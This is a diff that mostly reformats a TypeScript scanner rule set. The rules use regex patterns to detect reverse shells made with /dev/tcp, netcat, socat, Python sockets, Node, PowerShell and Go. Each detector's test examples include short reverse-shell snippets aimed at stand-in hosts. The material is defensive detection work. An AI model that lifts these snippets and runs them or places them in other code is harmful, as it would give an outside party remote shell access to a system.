@@ -7,7 +7,11 @@ const SHELL = /["'`/](?:bin\/)?(?:ba|z|da)?sh["'`]|cmd(?:\.exe)?["'`]|powershell
 type Shape = readonly [RegExp, ...Step[]];
 
 /** Each needs a connection and a shell that is tied to it. */
-const FAMILIES: readonly { readonly id: string; readonly needles: readonly (readonly string[])[]; readonly shapes: readonly Shape[] }[] = [
+const FAMILIES: readonly {
+  readonly id: string;
+  readonly needles: readonly (readonly string[])[];
+  readonly shapes: readonly Shape[];
+}[] = [
   {
     id: 'device',
     needles: [['/dev/tcp/', '/dev/udp/']],
@@ -20,38 +24,74 @@ const FAMILIES: readonly { readonly id: string; readonly needles: readonly (read
     id: 'netcat',
     needles: [['-e ', '-e"', '-c ', '-exec', 'mkfifo', 'exec:', '-ec', '-ce', '-ve', '-ne', '-le']],
     shapes: [
-      [/\bnc(?:at)?(?:\.exe)?\s/, [60, /\s-(?:[a-z]{0,4}e|c)\s{1,4}["']?(?:\/\w{1,8}){0,3}\/?(?:(?:ba|z)?sh|cmd)\b|--(?:sh-)?exec\b/]],
+      [
+        /\bnc(?:at)?(?:\.exe)?\s/,
+        [60, /\s-(?:[a-z]{0,4}e|c)\s{1,4}["']?(?:\/\w{1,8}){0,3}\/?(?:(?:ba|z)?sh|cmd)\b|--(?:sh-)?exec\b/],
+      ],
       [/\bmkfifo\b/, [200, /\b(?:ba)?sh\s{1,4}-i\b[^\n]{0,40}\|\s{0,4}(?:nc|ncat|telnet|openssl)\b/]],
       [/\bsocat\b/, [120, /\bexec:["']?(?:\/bin\/)?(?:ba)?sh|\bexec:cmd/i]],
     ],
   },
   {
     id: 'script',
-    needles: [['dup2', 'pty.spawn', '.connect(', 'fsockopen', 'tcpsocket'], ['socket', 'sh']],
+    needles: [
+      ['dup2', 'pty.spawn', '.connect(', 'fsockopen', 'tcpsocket'],
+      ['socket', 'sh'],
+    ],
     shapes: [
-      [/\bsocket\.socket\s{0,2}\(|\bsocket\.create_connection\s{0,2}\(|\bsocket\s{0,2}\(\s{0,4}AF_INET/, [500, /\.connect(?:_ex)?\s{0,2}\(|create_connection/], [600, /\bdup2\b|\bpty\.spawn\b/]],
-      [/\.connect\s{0,2}\(\s{0,2}\(/, [700, /\bdup2\b|\bpty\.spawn\b|(?:recv|makefile)\s{0,2}\([^\n]{0,80}\n?[^\n]{0,120}(?:subprocess|os\.popen|os\.system)/]],
+      [
+        /\bsocket\.socket\s{0,2}\(|\bsocket\.create_connection\s{0,2}\(|\bsocket\s{0,2}\(\s{0,4}AF_INET/,
+        [500, /\.connect(?:_ex)?\s{0,2}\(|create_connection/],
+        [600, /\bdup2\b|\bpty\.spawn\b/],
+      ],
+      [
+        /\.connect\s{0,2}\(\s{0,2}\(/,
+        [
+          700,
+          /\bdup2\b|\bpty\.spawn\b|(?:recv|makefile)\s{0,2}\([^\n]{0,80}\n?[^\n]{0,120}(?:subprocess|os\.popen|os\.system)/,
+        ],
+      ],
       [/\bfsockopen\s{0,2}\(/, [300, /(?:\/bin\/)?sh\s{1,4}-i/]],
       [/\bTCPSocket\.(?:new|open)\b/, [300, /\/bin\/(?:ba)?sh|\bexec\b|IO\.popen/]],
     ],
   },
   {
     id: 'node',
-    needles: [['net.connect', 'net.createconnection', 'net.socket', '.connect('], ['/sh', 'sh"', "sh'", 'sh`', 'cmd', 'powershell'], ['.pipe']],
+    needles: [
+      ['net.connect', 'net.createconnection', 'net.socket', '.connect('],
+      ['/sh', 'sh"', "sh'", 'sh`', 'cmd', 'powershell'],
+      ['.pipe'],
+    ],
     shapes: [
       [/\bnet\.(?:connect|createConnection|Socket)\b/, [900, SHELL], [600, /\.pipe\s{0,2}\(/]],
-      [/\bspawn\s{0,2}\(\s{0,4}["'`](?:\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)["'`]/, [900, /\bnet\.(?:connect|createConnection|Socket)\b|\.connect\s{0,2}\(/], [600, /\.pipe\s{0,2}\(/]],
+      [
+        /\bspawn\s{0,2}\(\s{0,4}["'`](?:\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)["'`]/,
+        [900, /\bnet\.(?:connect|createConnection|Socket)\b|\.connect\s{0,2}\(/],
+        [600, /\.pipe\s{0,2}\(/],
+      ],
     ],
   },
   {
     id: 'powershell',
     needles: [['tcpclient'], ['iex', 'invoke-expression', 'cmd']],
-    shapes: [[/\bSockets?\.TCPClient\b/i, [600, /\bGetStream\s{0,2}\(/i], [900, /\biex\b|Invoke-Expression|cmd(?:\.exe)?\s{1,4}\/c/i]]],
+    shapes: [
+      [
+        /\bSockets?\.TCPClient\b/i,
+        [600, /\bGetStream\s{0,2}\(/i],
+        [900, /\biex\b|Invoke-Expression|cmd(?:\.exe)?\s{1,4}\/c/i],
+      ],
+    ],
   },
   {
     id: 'go',
     needles: [['net.dial'], ['exec.command']],
-    shapes: [[/\bnet\.Dial\s{0,2}\(/, [500, /exec\.Command\s{0,2}\(\s{0,2}"(?:\/bin\/)?(?:(?:ba)?sh|cmd)/], [300, /\.Std(?:in|out)\b/]]],
+    shapes: [
+      [
+        /\bnet\.Dial\s{0,2}\(/,
+        [500, /exec\.Command\s{0,2}\(\s{0,2}"(?:\/bin\/)?(?:(?:ba)?sh|cmd)/],
+        [300, /\.Std(?:in|out)\b/],
+      ],
+    ],
   },
 ];
 const CONCRETE =
@@ -81,19 +121,39 @@ const EXAMPLES: Readonly<Record<string, FileRule['examples']>> = {
     passes: [{ path: 'a.sh', text: 'nc -zv db 5432 && sh -c "echo up"' }],
   },
   script: {
-    fires: [{ path: 'a.py', text: 's = socket.socket()\ns.connect(("203.0.113.9", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh"])' }],
+    fires: [
+      {
+        path: 'a.py',
+        text: 's = socket.socket()\ns.connect(("203.0.113.9", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh"])',
+      },
+    ],
     passes: [{ path: 'a.py', text: 's = socket.socket()\ns.connect((host, 80))\ns.sendall(b"GET /")' }],
   },
   node: {
-    fires: [{ path: 'a.js', text: "const sh = cp.spawn('/bin/sh');\nconst c = net.connect(8443, 'relay.acme.icu', () => { c.pipe(sh.stdin); });" }],
+    fires: [
+      {
+        path: 'a.js',
+        text: "const sh = cp.spawn('/bin/sh');\nconst c = net.connect(8443, 'relay.acme.icu', () => { c.pipe(sh.stdin); });",
+      },
+    ],
     passes: [{ path: 'a.js', text: "spawn('cmd', ['/c', 'dir']);\nstream.pipe(out);\nclient.connect(url);" }],
   },
   powershell: {
-    fires: [{ path: 'a.ps1', text: "$c = New-Object Net.Sockets.TCPClient('203.0.113.9', 4443)\n$s = $c.GetStream(); iex $d" }],
-    passes: [{ path: 'a.ps1', text: "$c = New-Object Net.Sockets.TCPClient($h, 443)\n$c.Close(); cmd /c dir" }],
+    fires: [
+      {
+        path: 'a.ps1',
+        text: "$c = New-Object Net.Sockets.TCPClient('203.0.113.9', 4443)\n$s = $c.GetStream(); iex $d",
+      },
+    ],
+    passes: [{ path: 'a.ps1', text: '$c = New-Object Net.Sockets.TCPClient($h, 443)\n$c.Close(); cmd /c dir' }],
   },
   go: {
-    fires: [{ path: 'a.go', text: 'c, _ := net.Dial("tcp", "203.0.113.9:9090")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin, cmd.Stdout = c, c' }],
+    fires: [
+      {
+        path: 'a.go',
+        text: 'c, _ := net.Dial("tcp", "203.0.113.9:9090")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin, cmd.Stdout = c, c',
+      },
+    ],
     passes: [{ path: 'a.go', text: 'c, _ := net.Dial("tcp", addr)\nout := exec.Command("git", "log")' }],
   },
 };
